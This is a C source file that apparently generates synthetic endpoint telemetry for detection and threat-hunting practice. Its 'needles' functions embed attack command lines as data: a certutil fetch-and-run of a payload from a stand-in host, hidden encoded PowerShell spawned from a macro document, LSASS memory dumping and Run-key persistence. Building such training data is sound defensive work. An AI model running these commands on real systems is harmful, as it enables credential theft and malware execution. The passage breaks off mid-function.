/*
 * gen_episodes.c - what happens on the devices: per-table row writers and
 * the episodes that combine them (a user opens a shell, a browser, Office;
 * services start workers; Defender updates; people log on), plus the rare
 * suspicious episodes that give detections and hunts something to find.
 *
 * An episode picks one device and writes its rows in causal order: a
 * process creation before the network, file, registry and image-load events
 * of that process. Rows of tables outside the mask are skipped, so the same
 * episodes serve `--tables DeviceProcessEvents` runs.
 */
#include <stdio.h>
#include <string.h>

#include "gen_int.h"

/* ---- per-table rows ---- */

static void row_proc(vg_gen *g, const gdev *d, const gproc *c)
{
    if (!gen_row_begin(g, VG_GEN_PROCESS))
        return;
    const gbin *b = c->bin;
    const gacct *ac = c->acct;
    const gproc *p = c->parent;
    WHEAD(g, "DeviceProcessEvents", d, "ProcessCreated");
    WS(g, "FileName", b->name);
    WP(g, "FolderPath", b, ac);
    WS(g, "SHA1", b->sha1s);
    WS(g, "SHA256", b->sha256s);
    WS(g, "MD5", b->md5s);
    WI(g, "FileSize", b->d->size);
    WS(g, "ProcessVersionInfoCompanyName", b->company);
    WS(g, "ProcessVersionInfoProductName", b->product);
    WS(g, "ProcessVersionInfoProductVersion", b->version);
    WS(g, "ProcessVersionInfoInternalFileName", b->orig);
    WS(g, "ProcessVersionInfoOriginalFileName", b->orig);
    WS(g, "ProcessVersionInfoFileDescription", b->desc);
    WI(g, "ProcessId", c->pid);
    WS(g, "ProcessCommandLine", c->cmd);
    WS(g, "ProcessIntegrityLevel", GS_C(gen_integ_name(c->integ)));
    WS(g, "ProcessTokenElevation", GS_C(gen_elev_name(c->integ)));
    WT(g, "ProcessCreationTime", c->created);
    WS(g, "AccountDomain", ac->domain);
    WS(g, "AccountName", ac->name);
    WS(g, "AccountSid", ac->sid);
    WS(g, "AccountUpn", ac->upn);
    WS(g, "AccountObjectId", ac->objid);
    WI(g, "LogonId", c->logon_id);
    gen_w_initiating(g, p);
    WI(g, "InitiatingProcessLogonId", p->logon_id);
    WS(g, "InitiatingProcessSignerType", p->bin->signer);
    WS(g, "InitiatingProcessSignatureStatus", p->bin->sigstatus);
    gen_w_tail(g, p);
    WI(g, "CreatedProcessSessionId", c->session);
    WB(g, "IsProcessRemoteSession", false);
    gen_row_end(g, VG_GEN_PROCESS);
}

static void row_net(vg_gen *g, const gdev *d, const gproc *p, const gen_dest *dst,
                    const char *action)
{
    if (!gen_row_begin(g, VG_GEN_NETWORK))
        return;
    bool udp = dst->port == 53 || dst->port == 123;
    bool priv = strncmp(dst->ip, "10.", 3) == 0;
    WHEAD(g, "DeviceNetworkEvents", d, action);
    WS(g, "RemoteIP", GS_C(dst->ip));
    WI(g, "RemotePort", dst->port);
    WS(g, "RemoteUrl", GS_C(dst->url));
    WS(g, "LocalIP", d->ip);
    WI(g, "LocalPort", 49152 + gen_rn(g, 16000));
    WS(g, "Protocol", GS_C(udp ? "Udp" : "Tcp"));
    WS(g, "LocalIPType", GS_C("Private"));
    WS(g, "RemoteIPType", GS_C(priv ? "Private" : "Public"));
    gen_w_initiating(g, p);
    gen_w_tail(g, p);
    gen_row_end(g, VG_GEN_NETWORK);
}

typedef struct logon_info {
    const char *action, *type, *protocol, *failure;
    const gacct *acct;
    bool admin;
    int64_t logon_id;
    gs remote_name, remote_ip;
    int remote_port;
} logon_info;

static void row_logon(vg_gen *g, const gdev *d, const gproc *p, const logon_info *li)
{
    if (!gen_row_begin(g, VG_GEN_LOGON))
        return;
    WHEAD(g, "DeviceLogonEvents", d, li->action);
    WS(g, "LogonType", GS_C(li->type));
    WS(g, "AccountDomain", li->acct->domain);
    WS(g, "AccountName", li->acct->name);
    WS(g, "AccountSid", li->acct->sid);
    WS(g, "Protocol", GS_C(li->protocol));
    WS(g, "FailureReason", GS_C(li->failure));
    WB(g, "IsLocalAdmin", li->admin);
    WI(g, "LogonId", li->logon_id);
    WS(g, "RemoteDeviceName", li->remote_name);
    WS(g, "RemoteIP", li->remote_ip);
    WS(g, "RemoteIPType",
       GS_C(!li->remote_ip.n ? "" : memcmp(li->remote_ip.p, "10.", 3) == 0 ? "Private" : "Public"));
    WI(g, "RemotePort", li->remote_port);
    gen_w_initiating(g, p);
    gen_w_tail(g, p);
    gen_row_end(g, VG_GEN_LOGON);
}

static void row_file(vg_gen *g, const gdev *d, const gproc *p, const char *action, gs name,
                     gs path, uint32_t size, const char *origin_url, const char *origin_ip)
{
    if (!gen_row_begin(g, VG_GEN_FILE))
        return;
    char h1[41], h2[65], h3[33];
    uint64_t seed = 0x9e37;
    for (uint32_t i = 0; i < path.n; i++)
        seed = (seed ^ (unsigned char)path.p[i]) * 0x100000001b3ULL;
    seed ^= size;
    bool deleted = strcmp(action, "FileDeleted") == 0;
    gen_hex(seed, h1, 40);
    gen_hex(seed ^ 1, h2, 64);
    gen_hex(seed ^ 2, h3, 32);
    WHEAD(g, "DeviceFileEvents", d, action);
    WS(g, "FileName", name);
    WS(g, "FolderPath", path);
    gs s1 = { h1, 40 }, s2 = { h2, 64 }, s3 = { h3, 32 };
    if (deleted)
        s1.n = s2.n = s3.n = 0;
    WS(g, "SHA1", s1);
    WS(g, "SHA256", s2);
    WS(g, "MD5", s3);
    WS(g, "FileOriginUrl", GS_C(origin_url));
    WS(g, "FileOriginIP", GS_C(origin_ip));
    WI(g, "FileSize", size);
    gen_w_initiating(g, p);
    gen_w_tail(g, p);
    gen_row_end(g, VG_GEN_FILE);
}

static void row_reg(vg_gen *g, const gdev *d, const gproc *p, const char *action, gs key,
                    gs value, const char *type, gs data)
{
    if (!gen_row_begin(g, VG_GEN_REGISTRY))
        return;
    WHEAD(g, "DeviceRegistryEvents", d, action);
    WS(g, "RegistryKey", key);
    WS(g, "RegistryValueType", GS_C(type));
    WS(g, "RegistryValueName", value);
    WS(g, "RegistryValueData", data);
    gen_w_initiating(g, p);
    gen_w_tail(g, p);
    gen_row_end(g, VG_GEN_REGISTRY);
}

static void row_img(vg_gen *g, const gdev *d, const gproc *p, int dll)
{
    if (!gen_row_begin(g, VG_GEN_IMAGELOAD))
        return;
    const gbin *b = &g->dlls[dll];
    WHEAD(g, "DeviceImageLoadEvents", d, "ImageLoaded");
    WS(g, "FileName", b->name);
    WP(g, "FolderPath", b, p->acct);
    WS(g, "SHA1", b->sha1s);
    WS(g, "SHA256", b->sha256s);
    WS(g, "MD5", b->md5s);
    WI(g, "FileSize", b->d->size);
    gen_w_initiating(g, p);
    gen_w_tail(g, p);
    gen_row_end(g, VG_GEN_IMAGELOAD);
}

static void row_info(vg_gen *g, const gdev *d)
{
    if (!gen_row_begin(g, VG_GEN_INFO))
        return;
    static const char *const plat[] = { "Windows10", "Windows11", "WindowsServer2022" };
    static const int64_t build[] = { 19045, 22631, 20348 };
    static const char *const ver[] = { "22H2", "23H2", "21H2" };
    gen_w_lit(g, "{\"Table\":\"DeviceInfo\"", 21);
    WT(g, "Timestamp", g->t);
    WS(g, "DeviceId", d->ids);
    WS(g, "DeviceName", d->name);
    WS(g, "ClientVersion", GS_C("10.8560.25858.1016"));
    WS(g, "PublicIP", d->pubip);
    WS(g, "OSArchitecture", GS_C("64-bit"));
    WS(g, "OSPlatform", GS_C(plat[d->os]));
    WI(g, "OSBuild", build[d->os]);
    WB(g, "IsAzureADJoined", !d->server);
    WS(g, "JoinType", GS_C(d->server ? "Domain Joined" : "Hybrid Azure AD Join"));
    WS(g, "AadDeviceId", d->server ? GS_C("") : d->aadid);
    gs users = gen_fmt(g, "[{\"UserName\":\"%.*s\",\"DomainName\":\"CONTOSO\",\"Sid\":\"%.*s\"}]",
                       (int)d->user->name.n, d->user->name.p, (int)d->user->sid.n,
                       d->user->sid.p);
    WS(g, "LoggedOnUsers", users);
    WS(g, "OSVersion", GS_C("10.0"));
    WS(g, "MachineGroup", GS_C(d->server ? "Servers" : "Workstations"));
    WI(g, "ReportId", (int64_t)g->report_id);
    WS(g, "OnboardingStatus", GS_C("Onboarded"));
    WS(g, "DeviceCategory", GS_C("Endpoint"));
    WS(g, "DeviceType", GS_C(d->server ? "Server" : "Workstation"));
    WS(g, "Model", GS_C(d->server ? "VMware7,1" : "Latitude 5440"));
    WS(g, "Vendor", GS_C(d->server ? "VMware, Inc." : "Dell Inc."));
    WS(g, "OSVersionInfo", GS_C(ver[d->os]));
    WS(g, "SensorHealthState", GS_C("Active"));
    WB(g, "IsExcluded", false);
    WS(g, "ExposureLevel", GS_C(d->server ? "High" : "Medium"));
    WS(g, "AssetValue", GS_C("Normal"));
    gen_row_end(g, VG_GEN_INFO);
}

/* ---- helpers ---- */

static const gen_dest *pick_dest(vg_gen *g, const gen_dest *list, size_t n)
{
    return &list[gen_rn(g, (uint32_t)n)];
}

static int64_t user_logon(const gproc *parent) { return parent->logon_id; }

/* A new process on d, written as a DeviceProcessEvents row. */
static gproc *spawn(vg_gen *g, gdev *d, gproc *p, int bin, const gproc *parent, int integ, gs cmd)
{
    d->next_pid += 4 * (1 + (int64_t)gen_rn(g, 64));
    if (d->next_pid > 65000)
        d->next_pid = 1000 + 4 * (int64_t)gen_rn(g, 100);
    const gacct *ac = parent->acct;
    gen_set_proc(p, &g->bins[bin], ac, parent, d->next_pid,
                 g->t + (vg_time)gen_rn(g, 500) * VG_TICKS_PER_MS, cmd, integ,
                 user_logon(parent));
    row_proc(g, d, p);
    return p;
}

static gs user_dir(vg_gen *g, const gdev *d, const char *sub, const char *name)
{
    return gen_fmt(g, "C:\\Users\\%.*s\\%s\\%s", (int)d->user->name.n, d->user->name.p, sub, name);
}

static const char *pick_str(vg_gen *g, const char *const *list, size_t n)
{
    return list[gen_rn(g, (uint32_t)n)];
}

static void conhost(vg_gen *g, gdev *d, const gproc *parent)
{
    gproc c;
    spawn(g, d, &c, B_CONHOST, parent, parent->integ,
          GS_C("\\\\??\\\\C:\\\\Windows\\\\system32\\\\conhost.exe 0xffffffff -ForceV1"));
}

/* ---- ordinary episodes ---- */

static void ep_shell(vg_gen *g, gdev *d)
{
    gproc cmd, t, t2;
    spawn(g, d, &cmd, B_CMD, &d->explorer, GI_MEDIUM,
          GS_C("\\\"C:\\\\Windows\\\\system32\\\\cmd.exe\\\" "));
    conhost(g, d, &cmd);
    int n = 1 + (int)gen_rn(g, 4);
    for (int i = 0; i < n; i++) {
        switch (gen_rn(g, 10)) {
        case 0: spawn(g, d, &t, B_WHOAMI, &cmd, GI_MEDIUM, GS_C("whoami")); break;
        case 1: spawn(g, d, &t, B_IPCONFIG, &cmd, GI_MEDIUM, GS_C("ipconfig  /all")); break;
        case 2:
            spawn(g, d, &t, B_PING, &cmd, GI_MEDIUM,
                  gen_fmt(g, "ping  -n 4 %s", pick_str(g, gen_hosts_internal, g->n_hosts)));
            break;
        case 3:
            spawn(g, d, &t, B_NET, &cmd, GI_MEDIUM, GS_C("net  use"));
            spawn(g, d, &t2, B_NET1, &t, GI_MEDIUM, GS_C("C:\\\\Windows\\\\system32\\\\net1  use"));
            break;
        case 4: spawn(g, d, &t, B_TASKLIST, &cmd, GI_MEDIUM, GS_C("tasklist  /v")); break;
        case 5:
            spawn(g, d, &t, B_FINDSTR, &cmd, GI_MEDIUM,
                  gen_fmt(g, "findstr  /i \"error\" C:\\Users\\%.*s\\Documents\\app.log",
                          (int)d->user->name.n, d->user->name.p));
            break;
        case 6:
            spawn(g, d, &t, B_GIT, &cmd, GI_MEDIUM, GS_C("git  pull --ff-only"));
            row_net(g, d, &t, &gen_dest_dev[0], "ConnectionSuccess");
            break;
        case 7:
            spawn(g, d, &t, B_PYTHON, &cmd, GI_MEDIUM,
                  gen_fmt(g, "python  C:\\Users\\%.*s\\src\\report.py --month %u",
                          (int)d->user->name.n, d->user->name.p, 1 + gen_rn(g, 12)));
            break;
        case 8: {
            const char *doc = pick_str(g, gen_doc_names, g->n_docs);
            spawn(g, d, &t, B_NOTEPAD, &cmd, GI_MEDIUM,
                  gen_fmt(g, "notepad  \"C:\\Users\\%.*s\\Documents\\%s\"", (int)d->user->name.n,
                          d->user->name.p, doc));
            break;
        }
        default: spawn(g, d, &t, B_SYSTEMINFO, &cmd, GI_MEDIUM, GS_C("systeminfo")); break;
        }
    }
}

static void ep_powershell(vg_gen *g, gdev *d)
{
    gproc ps;
    static const char *const cmds[] = {
        "\"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\" ",
        "powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Get-Inventory.ps1",
        "powershell.exe -NoLogo -Command \"Get-Service | Where-Object Status -eq 'Stopped'\"",
        "\"powershell.exe\" -Command Import-Module ActiveDirectory; Get-ADUser -Filter *",
    };
    spawn(g, d, &ps, B_POWERSHELL, &d->explorer, GI_MEDIUM, gen_fmt(g, "%s", cmds[gen_rn(g, 4)]));
    conhost(g, d, &ps);
    row_img(g, d, &ps, D_CLR);
    row_img(g, d, &ps, D_SMA);
    row_img(g, d, &ps, D_AMSI);
    char rnd[13];
    gen_hex(gen_rnd(g), rnd, 12);
    gs name = gen_fmt(g, "__PSScriptPolicyTest_%.8s.%.3s.ps1", rnd, rnd + 8);
    gs path = gen_fmt(g, "C:\\Users\\%.*s\\AppData\\Local\\Temp\\__PSScriptPolicyTest_%.8s.%.3s.ps1",
                      (int)d->user->name.n, d->user->name.p, rnd, rnd + 8);
    row_file(g, d, &ps, "FileCreated", name, path, 1, "", "");
    row_file(g, d, &ps, "FileDeleted", name, path, 1, "", "");
    if (gen_rn(g, 3) == 0)
        row_net(g, d, &ps, &gen_dest_office[1], "ConnectionSuccess");
}

static void ep_service(vg_gen *g, gdev *d)
{
    gproc w;
    gproc *host = &d->svchost[gen_rn(g, GEN_SVCHOSTS)];
    switch (gen_rn(g, 7)) {
    case 0:
        spawn(g, d, &w, B_TASKHOSTW, host, GI_MEDIUM,
              GS_C("taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"));
        break;
    case 1:
        spawn(g, d, &w, B_WMIPRVSE, host, GI_SYSTEM,
              GS_C("C:\\\\Windows\\\\system32\\\\wbem\\\\wmiprvse.exe -secured -Embedding"));
        break;
    case 2:
        spawn(g, d, &w, B_DLLHOST, host, GI_SYSTEM,
              GS_C("C:\\\\Windows\\\\system32\\\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}"));
        break;
    case 3:
        spawn(g, d, &w, B_SEARCHPROT, host, GI_SYSTEM,
              GS_C("\\\"C:\\\\Windows\\\\system32\\\\SearchProtocolHost.exe\\\" Global\\\\UsGthrFltPipeMssGthrPipe3_ Global\\\\UsGthrCtrlFltPipeMssGthrPipe3 1 -2147483646 \\\"Software\\\\Microsoft\\\\Windows Search\\\" \\\"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)\\\""));
        break;
    case 4:
        spawn(g, d, &w, B_RUNTIMEBROKER, host, GI_MEDIUM,
              GS_C("C:\\\\Windows\\\\System32\\\\RuntimeBroker.exe -Embedding"));
        break;
    case 5:
        spawn(g, d, &w, B_GPUPDATE, host, GI_SYSTEM, GS_C("gpupdate.exe /target:computer"));
        row_net(g, d, &w, &gen_dest_ms[6], "ConnectionSuccess");
        break;
    default:
        spawn(g, d, &w, B_SVCHOST, &d->services, GI_SYSTEM,
              gen_fmt(g, "C:\\Windows\\system32\\svchost.exe %s",
                      pick_str(g, gen_svchost_groups, g->n_groups)));
        break;
    }
    int nreg = (int)gen_rn(g, 3);
    for (int i = 0; i < nreg; i++) {
        const gen_regkey *rk = &gen_reg_system[gen_rn(g, (uint32_t)g->n_regsys)];
        gs data = rk->data[0] ? gen_fmt(g, "%s", rk->data) : gen_fmt(g, "%llu",
                                                                     (unsigned long long)(gen_rnd(g) >> 20));
        row_reg(g, d, host, "RegistryValueSet", gen_fmt(g, "%s", rk->key), gen_fmt(g, "%s", rk->value),
                rk->type, data);
    }
    int nnet = (int)gen_rn(g, 3);
    for (int i = 0; i < nnet; i++)
        row_net(g, d, host, pick_dest(g, gen_dest_ms, g->n_ms), "ConnectionSuccess");
}

static void ep_browser(vg_gen *g, gdev *d)
{
    gproc br, child;
    bool edge = gen_rn(g, 2);
    int bin = edge ? B_MSEDGE : B_CHROME;
    spawn(g, d, &br, bin, &d->explorer, GI_MEDIUM,
          edge ? GS_C("\\\"C:\\\\Program Files (x86)\\\\Microsoft\\\\Edge\\\\Application\\\\msedge.exe\\\" --profile-directory=Default")
               : GS_C("\\\"C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe\\\" "));
    row_img(g, d, &br, edge ? D_MSEDGE_DLL : D_CHROME_ELF);
    int nchild = 1 + (int)gen_rn(g, 2);
    for (int i = 0; i < nchild; i++)
        spawn(g, d, &child, bin, &br, GI_LOW,
              gen_fmt(g, "\"%s\\%s\" --type=renderer --lang=en-US --renderer-client-id=%u "
                         "--launch-time-ticks=%llu --mojo-platform-channel-handle=%u /prefetch:1",
                      gen_bins[bin].dir, gen_bins[bin].name, 5 + gen_rn(g, 200),
                      (unsigned long long)(gen_rnd(g) >> 28), 1000 + gen_rn(g, 9000)));
    int nnet = 2 + (int)gen_rn(g, 5);
    for (int i = 0; i < nnet; i++)
        row_net(g, d, &br, pick_dest(g, gen_dest_web, g->n_web),
                gen_rn(g, 40) ? "ConnectionSuccess" : "ConnectionFailed");
    if (gen_rn(g, 4) == 0) {
        const char *doc = pick_str(g, gen_doc_names, g->n_docs);
        const gen_dest *src = pick_dest(g, gen_dest_web, g->n_web);
        char url[256];
        snprintf(url, sizeof url, "https://%s/files/%s", src->url, doc);
        for (char *q = url; *q; q++)
            if (*q == ' ')
                *q = '_';
        row_file(g, d, &br, "FileCreated", gen_fmt(g, "%s", doc),
                 user_dir(g, d, "Downloads", doc), 20000 + gen_rn(g, 4000000), url, src->ip);
    }
}

static void ep_office(vg_gen *g, gdev *d)
{
    gproc app;
    static const int apps[] = { B_OUTLOOK, B_WINWORD, B_EXCEL };
    int which = (int)gen_rn(g, 3);
    const char *doc = pick_str(g, gen_doc_names, g->n_docs);
    if (apps[which] == B_OUTLOOK)
        spawn(g, d, &app, B_OUTLOOK, &d->explorer, GI_MEDIUM,
              GS_C("\\\"C:\\\\Program Files\\\\Microsoft Office\\\\Root\\\\Office16\\\\OUTLOOK.EXE\\\" "));
    else
        spawn(g, d, &app, apps[which], &d->explorer, GI_MEDIUM,
              gen_fmt(g, "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\%s\" /n "
                         "\"C:\\Users\\%.*s\\Documents\\%s\" /o \"\"",
                      gen_bins[apps[which]].name, (int)d->user->name.n, d->user->name.p, doc));
    row_img(g, d, &app, D_MSO);
    row_img(g, d, &app, D_RICHED20);
    if (gen_rn(g, 8) == 0)
        row_img(g, d, &app, D_VBE7);
    int nnet = 1 + (int)gen_rn(g, 3);
    for (int i = 0; i < nnet; i++)
        row_net(g, d, &app, pick_dest(g, gen_dest_office, g->n_office), "ConnectionSuccess");
    const gen_regkey *rk = &gen_reg_user[gen_rn(g, (uint32_t)g->n_reguser)];
    row_reg(g, d, &app, "RegistryValueSet",
            gen_fmt(g, "HKEY_CURRENT_USER\\%.*s\\%s", (int)d->user->sid.n, d->user->sid.p,
                    rk->key + sizeof "HKEY_CURRENT_USER"),
            gen_fmt(g, "%s", rk->value), rk->type, gen_fmt(g, "%s", rk->data));
    if (apps[which] != B_OUTLOOK)
        row_file(g, d, &app, "FileModified", gen_fmt(g, "%s", doc),
                 user_dir(g, d, "Documents", doc), 10000 + gen_rn(g, 900000), "", "");
}

static void ep_logon(vg_gen *g, gdev *d)
{
    logon_info li = { 0 };
    li.acct = d->user;
    li.logon_id = d->user_logon;
    li.remote_name = GS_C("");
    li.remote_ip = GS_C("");
    li.failure = "";
    li.action = "LogonSuccess";
    const gproc *by = &d->lsass;
    switch (gen_rn(g, 6)) {
    case 0:
        li.type = "Interactive";
        li.protocol = "Negotiate";
        by = &d->winlogon;
        break;
    case 1:
        li.type = "Unlock";
        li.protocol = "Kerberos";
        by = &d->winlogon;
        break;
    case 2:
    case 3: {
        li.type = "Network";
        li.protocol = gen_rn(g, 5) ? "Kerberos" : "NTLM";
        li.acct = &g->users[gen_rn(g, g->nusers)];
        uint32_t k = gen_rn(g, g->o.devices);
        li.remote_name = g->devs[k].name;
        li.remote_ip = g->devs[k].ip;
        li.remote_port = 49152 + (int)gen_rn(g, 16000);
        li.logon_id = 1000000 + (int64_t)gen_rn(g, 90000000);
        break;
    }
    case 4:
        li.type = "Service";
        li.protocol = "Negotiate";
        li.acct = gen_rn(g, 2) ? &g->locsvc : &g->sys;
        li.logon_id = 997;
        by = &d->services;
        break;
    default:
        li.type = d->server ? "RemoteInteractive" : "CachedInteractive";
        li.protocol = "Negotiate";
        break;
    }
    li.admin = li.acct == d->user && d->server;
    if (gen_rn(g, 30) == 0) {
        li.action = "LogonFailed";
        li.failure = "InvalidUserNameOrPassword";
        li.logon_id = 0;
    }
    row_logon(g, d, by, &li);
}

static void ep_defender(vg_gen *g, gdev *d)
{
    gproc mp;
    if (gen_rn(g, 2))
        spawn(g, d, &mp, B_MPCMDRUN, &d->msmpeng, GI_SYSTEM,
              GS_C("\\\"C:\\\\ProgramData\\\\Microsoft\\\\Windows Defender\\\\platform\\\\4.18.23110.3-0\\\\MpCmdRun.exe\\\" -wdenable"));
    else
        spawn(g, d, &mp, B_MPCMDRUN, &d->svchost[0], GI_SYSTEM,
              GS_C("\\\"C:\\\\ProgramData\\\\Microsoft\\\\Windows Defender\\\\platform\\\\4.18.23110.3-0\\\\MpCmdRun.exe\\\" -IdleTask -TaskName WdCacheMaintenance"));
    row_img(g, d, &mp, D_MPCLIENT);
    row_net(g, d, &d->msmpeng, &gen_dest_sense[2], "ConnectionSuccess");
    char guid[33];
    gen_hex(gen_rnd(g), guid, 32);
    gs path = gen_fmt(g, "C:\\ProgramData\\Microsoft\\Windows Defender\\Definition Updates\\{%.8s-%.4s-%.4s-%.4s-%.12s}\\mpavbase.vdm",
                      guid, guid + 8, guid + 12, guid + 16, guid + 20);
    row_file(g, d, &d->msmpeng, "FileCreated", GS_C("mpavbase.vdm"), path, 13000000 + gen_rn(g, 90000),
             "", "");
    row_reg(g, d, &d->msmpeng, "RegistryValueSet",
            GS_C("HKEY_LOCAL_MACHINE\\\\SOFTWARE\\\\Microsoft\\\\Windows Defender\\\\Signature Updates"),
            GS_C("AVSignatureVersion"), "String", gen_fmt(g, "1.403.%u.0", 1000 + gen_rn(g, 2000)));
}

static void ep_sense(vg_gen *g, gdev *d)
{
    int n = 1 + (int)gen_rn(g, 4);
    for (int i = 0; i < n; i++)
        row_net(g, d, &d->mssense, pick_dest(g, gen_dest_sense, g->n_sense), "ConnectionSuccess");
    if (gen_rn(g, 6) == 0) {
        gproc p;
        spawn(g, d, &p, B_SENSECNCPROXY, &d->mssense, GI_SYSTEM,
              GS_C("\\\"SenseCncProxy.exe\\\" Global\\\\SenseCncProxy"));
        row_img(g, d, &p, D_WINHTTP);
        row_net(g, d, &p, pick_dest(g, gen_dest_sense, g->n_sense), "ConnectionSuccess");
    }
}

static void ep_update(vg_gen *g, gdev *d)
{
    gproc w;
    if (gen_rn(g, 2))
        spawn(g, d, &w, B_WUAUCLT, &d->svchost[1], GI_SYSTEM,
              GS_C("\\\"C:\\\\Windows\\\\system32\\\\wuauclt.exe\\\" /UpdateDeploymentProvider UpdateDeploymentProvider.dll /ClassId 1bd7f4d4-4d2d-4a50-a1b8-10e3d3d2c1a4 /RunHandlerComServer"));
    else
        spawn(g, d, &w, B_TIWORKER, &d->svchost[4], GI_SYSTEM,
              GS_C("C:\\\\Windows\\\\winsxs\\\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.3570_none_7e1f8b1f0b3a2c8a\\\\TiWorker.exe -Embedding"));
    char hex[33];
    gen_hex(gen_rnd(g), hex, 32);
    row_file(g, d, &w, "FileCreated", gen_fmt(g, "%.16s.cab", hex),
             gen_fmt(g, "C:\\Windows\\SoftwareDistribution\\Download\\%s\\%.16s.cab", hex, hex),
             100000 + gen_rn(g, 50000000), "", "");
    row_net(g, d, &d->svchost[1], pick_dest(g, gen_dest_ms, 4), "ConnectionSuccess");
}

static void ep_sync(vg_gen *g, gdev *d)
{
    gproc od;
    bool teams = gen_rn(g, 2);
    gproc *p = &od;
    if (teams)
        spawn(g, d, &od, B_TEAMS, &d->explorer, GI_MEDIUM,
              gen_fmt(g, "\"C:\\Users\\%.*s\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --system-initiated",
                      (int)d->user->name.n, d->user->name.p));
    else
        spawn(g, d, &od, B_ONEDRIVE, &d->explorer, GI_MEDIUM,
              gen_fmt(g, "\"C:\\Users\\%.*s\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background",
                      (int)d->user->name.n, d->user->name.p));
    int n = 2 + (int)gen_rn(g, 3);
    for (int i = 0; i < n; i++)
        row_net(g, d, p, pick_dest(g, gen_dest_office, g->n_office), "ConnectionSuccess");
    if (!teams) {
        const char *doc = pick_str(g, gen_doc_names, g->n_docs);
        row_file(g, d, p, "FileModified", gen_fmt(g, "%s", doc),
                 user_dir(g, d, "OneDrive - Contoso\\Documents", doc), 5000 + gen_rn(g, 2000000),
                 "", "");
    }
}

static void ep_dev(vg_gen *g, gdev *d)
{
    gproc code, git;
    spawn(g, d, &code, B_VSCODE, &d->explorer, GI_MEDIUM,
          gen_fmt(g, "\"C:\\Users\\%.*s\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe\" ",
                  (int)d->user->name.n, d->user->name.p));
    const char *gitcmd = gen_rn(g, 2) ? "git.exe fetch origin" : "git.exe status -z -uall";
    spawn(g, d, &git, B_GIT, &code, GI_MEDIUM, GS_C(gitcmd));
    row_net(g, d, &git, &gen_dest_dev[0], "ConnectionSuccess");
    row_net(g, d, &code, pick_dest(g, gen_dest_dev, g->n_dev), "ConnectionSuccess");
}

/* ---- the needles ---- */

static void sus_encoded_ps(vg_gen *g, gdev *d)
{
    gproc word, ps;
    spawn(g, d, &word, B_WINWORD, &d->explorer, GI_MEDIUM,
          gen_fmt(g, "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n "
                     "\"C:\\Users\\%.*s\\Downloads\\Invoice_%u.docm\" /o \"\"",
                  (int)d->user->name.n, d->user->name.p, 1000 + gen_rn(g, 9000)));
    row_img(g, d, &word, D_VBE7);
    gs enc = g->enc_ps[gen_rn(g, 4)];
    spawn(g, d, &ps, B_POWERSHELL, &word, GI_MEDIUM,
          gen_fmt(g, "powershell.exe -nop -w hidden -enc %.*s", (int)enc.n, enc.p));
    row_img(g, d, &ps, D_AMSI);
    row_net(g, d, &ps, &gen_dest_bad[0], "ConnectionSuccess");
}

static void sus_certutil(vg_gen *g, gdev *d)
{
    gproc cmd, cu, pay;
    spawn(g, d, &cmd, B_CMD, &d->explorer, GI_MEDIUM,
          GS_C("\\\"C:\\\\Windows\\\\system32\\\\cmd.exe\\\" /c certutil.exe -urlcache -split -f http://update-check.duckdns.org/payload.exe C:\\\\Users\\\\Public\\\\upd.exe && C:\\\\Users\\\\Public\\\\upd.exe"));
    spawn(g, d, &cu, B_CERTUTIL, &cmd, GI_MEDIUM,
          GS_C("certutil.exe  -urlcache -split -f http://update-check.duckdns.org/payload.exe C:\\\\Users\\\\Public\\\\upd.exe"));
    row_net(g, d, &cu, &gen_dest_bad[0], "ConnectionSuccess");
    row_file(g, d, &cu, "FileCreated", GS_C("upd.exe"), GS_C("C:\\\\Users\\\\Public\\\\upd.exe"),
             gen_bins[B_PAYLOAD].size, "http://update-check.duckdns.org/payload.exe",
             gen_dest_bad[0].ip);
    spawn(g, d, &pay, B_PAYLOAD, &cmd, GI_MEDIUM, GS_C("C:\\\\Users\\\\Public\\\\upd.exe"));
    row_net(g, d, &pay, &gen_dest_bad[2], "ConnectionSuccess");
}

static void sus_lsass(vg_gen *g, gdev *d)
{
    gproc ps, dump;
    spawn(g, d, &ps, B_POWERSHELL, &d->explorer, GI_HIGH,
          GS_C("\\\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\\\" "));
    if (gen_rn(g, 2)) {
        spawn(g, d, &dump, B_RUNDLL32, &ps, GI_HIGH,
              gen_fmt(g, "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, "
                         "MiniDump %lld C:\\Windows\\Temp\\lsass.dmp full",
                      (long long)d->lsass.pid));
        row_img(g, d, &dump, D_COMSVCS);
        row_img(g, d, &dump, D_DBGHELP);
        row_file(g, d, &dump, "FileCreated", GS_C("lsass.dmp"),
                 GS_C("C:\\\\Windows\\\\Temp\\\\lsass.dmp"), 48000000 + gen_rn(g, 9000000), "", "");
    } else {
        spawn(g, d, &dump, B_PROCDUMP, &ps, GI_HIGH,
              GS_C("procdump64.exe  -accepteula -ma lsass.exe C:\\\\Users\\\\Public\\\\l.dmp"));
        row_img(g, d, &dump, D_DBGHELP);
        row_file(g, d, &dump, "FileCreated", GS_C("l.dmp"), GS_C("C:\\\\Users\\\\Public\\\\l.dmp"),
                 48000000 + gen_rn(g, 9000000), "", "");
    }
}

static void sus_persistence(vg_gen *g, gdev *d)
{
    gproc cmd, reg, st;
    spawn(g, d, &cmd, B_CMD, &d->explorer, GI_MEDIUM,
          GS_C("\\\"C:\\\\Windows\\\\system32\\\\cmd.exe\\\" "));
    spawn(g, d, &reg, B_REG, &cmd, GI_MEDIUM,
          GS_C("reg  add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v OneDriveUpdate /t REG_SZ /d C:\\\\Users\\\\Public\\\\upd.exe /f"));
    row_reg(g, d, &reg, "RegistryValueSet",
